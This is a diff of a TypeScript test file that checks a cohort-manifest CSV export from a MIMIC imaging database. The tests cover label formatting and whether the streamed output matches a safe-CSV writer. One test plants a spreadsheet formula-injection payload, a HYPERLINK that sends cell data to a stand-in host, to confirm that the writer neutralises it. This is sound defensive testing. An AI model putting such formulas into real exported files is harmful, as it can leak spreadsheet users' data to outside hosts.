@@ -4,9 +4,11 @@ import path from "node:path";
 import { sql } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { labDatasets, storedFiles } from "@/db/schema";
-import { iterateManifest } from "@/lib/api/cohort-manifest";
+import { iterateManifest, manifestCsvStream } from "@/lib/api/cohort-manifest";
+import { csvChunk } from "@/lib/csv/safe-csv";
 import { MANIFEST_COLUMNS } from "@/lib/api/schemas";
 import { getDb } from "@/lib/db/client";
+import { LABELS } from "@/lib/mimic/import/file-specs";
 import { createLab } from "@/lib/factories";
 import { parseStudyFilters, type StudyFilters } from "@/lib/mimic/browse/study-filters";
 import { findDataset, importMimicDirectory } from "@/lib/mimic/import/import-directory";
@@ -67,6 +69,22 @@ describe("a cohort manifest", () => {
       expect([r.in_storage, r.size, r.sha256], r.path).toEqual(f ? ["1", String(f.size), f.sha256] : ["0", "", ""]);
     }
     expect(rows.filter((r) => r.in_storage === "1")).toHaveLength(stored.size);
+    // Every label cell as the source CSVs write it (1.0, 0.0, -1.0 or empty), from the arrays read as arrays.
+    const labels = await getDb().execute<{ study_id: number; chexpert: (number | null)[] | null; negbio: (number | null)[] | null }>(
+      sql`select study_id, chexpert, negbio from mimic_study where dataset_id = ${datasetId}`,
+    );
+    const byStudy = new Map(labels.rows.map((l) => [Number(l.study_id), l]));
+    const text = (v: number | null | undefined) => (v === null || v === undefined ? "" : v.toFixed(1));
+    const seen = new Set<string>();
+    for (const r of rows) {
+      const l = byStudy.get(Number(r.study_id))!;
+      for (const [i, label] of LABELS.entries()) {
+        const cells = [(r as Record<string, string>)[`chexpert_${label}`], (r as Record<string, string>)[`negbio_${label}`]];
+        expect(cells, `${r.study_id} ${label}`).toEqual([text(l.chexpert?.[i]), text(l.negbio?.[i])]);
+        cells.forEach((c) => seen.add(c!));
+      }
+    }
+    expect(seen).toEqual(new Set(["1.0", "0.0", "-1.0", ""]));
   });
 
   it("follows the cohort's filter and writes labels as the source CSVs do", async () => {
@@ -78,4 +96,22 @@ describe("a cohort manifest", () => {
     expect(rows.map((r) => r.path)).toEqual(expected.rows.map((r) => r.path));
     expect(new Set(rows.map((r) => r.chexpert_Edema))).toEqual(new Set(["1.0"]));
   });
+
+  it("streams exactly the bytes the safe-CSV writer makes of those rows, though PostgreSQL writes them", async () => {
+    // Cells that must be neutralised, quoted or left empty, in the image table the COPY reads.
+    const [a, b] = (await getDb().execute<{ dicom_id: string }>(sql`select dicom_id from mimic_image where dataset_id = ${datasetId} order by study_id, dicom_id limit 2`)).rows;
+    await getDb().execute(sql`update mimic_image set view_position = ${'=HYPERLINK("http://x.test/?"&A1,"a")'}, split = ${"-2+3"} where dataset_id = ${datasetId} and dicom_id = ${a!.dicom_id}`);
+    await getDb().execute(sql`update mimic_image set view_position = ${"line\nbreak, \"quoted\""}, split = ${""} where dataset_id = ${datasetId} and dicom_id = ${b!.dicom_id}`);
+    for (const [q, perBatch] of [["", 7], ["", 2000], ["label=Edema:positive&split=train", 5]] as const) {
+      const rows: unknown[][] = [[...MANIFEST_COLUMNS]];
+      for await (const r of iterateManifest({ labId, datasetId, filters: filters(q), studiesPerBatch: perBatch })) rows.push(r);
+      const streamed = Buffer.from(await new Response(manifestCsvStream({ labId, datasetId, filters: filters(q), studiesPerBatch: perBatch })).arrayBuffer()).toString("utf8");
+      expect(streamed.length, q).toBeGreaterThan(1000);
+      expect(streamed, `${q} by ${perBatch}`).toBe(csvChunk(rows));
+    }
+    const text = Buffer.from(await new Response(manifestCsvStream({ labId, datasetId, filters: filters("") })).arrayBuffer()).toString("utf8");
+    expect(text).toContain(`'=HYPERLINK(""http://x.test/?""&A1,""a"")"`);
+    expect(text).toContain(",'-2+3,");
+  });
 });
+
